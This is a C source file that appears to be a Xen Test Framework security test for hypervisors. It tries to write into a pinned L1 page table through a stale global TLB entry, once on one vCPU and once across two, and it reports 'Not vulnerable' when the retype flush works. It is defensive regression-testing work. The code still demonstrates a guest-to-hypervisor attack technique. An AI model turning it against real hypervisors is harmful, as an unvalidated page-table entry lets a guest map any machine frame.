/*
 * Attack (issue 8, defect 2): write a page table through a stale TLB entry.
 * A frame is mapped writable with _PAGE_GLOBAL (a user page, so both Xen
 * and Keel keep the G bit) at a window VA, touched so that a TLB caches
 * the writable translation, the mapping is dropped, the frame (zeroed: a
 * valid empty L1) is pinned as an L1, and the window is written again.
 * If the stale entry survived the retype, the write lands in the pinned L1
 * (an unvalidated PTE: the guest could map any machine frame).  The value
 * written has the present bit clear, so a successful attack leaves nothing
 * worse than a wrong entry behind.
 *  1. one vCPU: the mapping is dropped with no flush at all, then pinned;
 *  2. two vCPUs: vCPU 1 caches the entry; vCPU 0 drops the mapping with a
 *     local flush only (which does not reach vCPU 1's TLB), pins, and vCPU 1
 *     writes: the pin must flush the CPU that may still hold the entry.
 * Xen 4.17 (tlbflush_filter on the domain's dirty mask at the type change)
 * and Keel: the pin succeeds, entry 0 of the L1 stays 0, the write lands in
 * the window's own frame.  Prints "Not vulnerable" when it did every time.
 */
#include "pv.h"
#include "pv_vcpu.h"
#include "console.h"
#include "report.h"
#include "string.h"

const char test_title[] = "stale global TLB entry vs a retype to page table";

#define EVIL   0x5a5a5a5a5a5a5a5aUL     /* bit 0 (present) clear */
#define PTE_G  0x100UL                  /* _PAGE_GLOBAL */
#define LOOPS  400000UL

static uint8_t window[4096] __attribute__((aligned(4096)));
static uint64_t victim[512] __attribute__((aligned(4096)));
static uint8_t ap_stack[PV_VCPU_STACK] __attribute__((aligned(16)));

static volatile unsigned long go, ack;

/* check_rc() as a condition: true if rc was as expected. */
static bool rc_is(const char *what, long rc, long want)
{
    check_rc(what, rc, want);
    return rc == want;
}

static uint64_t global_rw_pte(void *frame_va)
{
    return virt_to_maddr(frame_va) | PTE_RW | PTE_G;
}

/* vCPU 1: cache the window's translation (go 1), then write through it (go 2). */
static void ap_main(unsigned int id)
{
    (void)id;
    while ( go != 1 )
        ;
    *(volatile uint64_t *)window = 0;
    ack = 1;
    while ( go != 2 )
        ;
    *(volatile uint64_t *)window = EVIL;
    ack = 2;
}

/* Map the window at the victim frame, global and writable, on every vCPU. */
static bool map_window_at_victim(void)
{
    memset(victim, 0, sizeof(victim));
    if ( !rc_is("map the victim read-only", make_page_ro(victim), 0) )
        return false;
    return rc_is("window -> victim, RW|U|G",
                 hypercall_update_va_mapping((unsigned long)window, global_rw_pte(victim),
                                             UVMF_INVLPG | UVMF_ALL), 0);
}

/* Pin, let `write` happen, look where it went, unpin and put things back. */
static void pin_and_judge(const char *what, void (*write)(void))
{
    long pin = mmuext_one(MMUEXT_PIN_L1_TABLE, virt_to_mfn(victim), 0);
    uint64_t entry0, own;

    printk("%s: pin the victim as an L1: %ld\n", what, pin);
    check_rc("pin the victim as an L1", pin, 0);
    write();
    entry0 = *(volatile uint64_t *)victim;
    own = *(volatile uint64_t *)window;
    printk("%s: entry 0 of the L1 %#lx, window frame %#lx\n", what, entry0, own);
    if ( entry0 != 0 )
        xtf_failure("Fail: %s: wrote %#lx into a pinned L1 through a stale TLB entry\n",
                    what, entry0);
    else if ( own != EVIL )
        xtf_failure("Fail: %s: the write went nowhere visible (%#lx)\n", what, own);
    if ( pin == 0 )
        check_rc("unpin", mmuext_one(MMUEXT_UNPIN_TABLE, virt_to_mfn(victim), 0), 0);
    check_rc("victim writable again", make_page_rw(victim), 0);
}

static void write_here(void)
{
    *(volatile uint64_t *)window = EVIL;
}

static void write_on_vcpu1(void)
{
    go = 2;
    if ( !wait_for_value(&ack, 2, LOOPS) )
        xtf_failure("Fail: vCPU 1 did not write\n");
}

static void one_vcpu(void)
{
    if ( !map_window_at_victim() )
        return;
    *(volatile uint64_t *)window = 0;           /* the TLB caches it writable */
    check_rc("drop the mapping, no flush",
             hypercall_update_va_mapping((unsigned long)window, global_rw_pte(window),
                                         UVMF_NONE), 0);
    pin_and_judge("no flush", write_here);
}

static void two_vcpus(void)
{
    long rc;

    if ( pv_nr_vcpus(64) < 2 )
        return (void)xtf_skip("Skip: part 2 needs 2 vCPUs (QEMU -smp 2)\n");
    if ( !map_window_at_victim() )
        return;
    rc = pv_start_vcpu(1, ap_main, ap_stack + sizeof(ap_stack));
    if ( !rc_is("start vCPU 1", rc, 0) )
        return;
    go = 1;
    if ( !wait_for_value(&ack, 1, LOOPS) )
        return (void)xtf_failure("Fail: vCPU 1 did not touch the window\n");
    check_rc("drop the mapping, local flush only",
             hypercall_update_va_mapping((unsigned long)window, global_rw_pte(window),
                                         UVMF_TLB_FLUSH | UVMF_LOCAL), 0);
    pin_and_judge("vCPU 1's TLB", write_on_vcpu1);
}

void test_main(void)
{
    one_vcpu();
    two_vcpus();
    hypercall_update_va_mapping((unsigned long)window, virt_to_maddr(window) | PTE_RW,
                                UVMF_TLB_FLUSH | UVMF_ALL);
    if ( !xtf_status_is_failing() )
        printk("Not vulnerable\n");
}
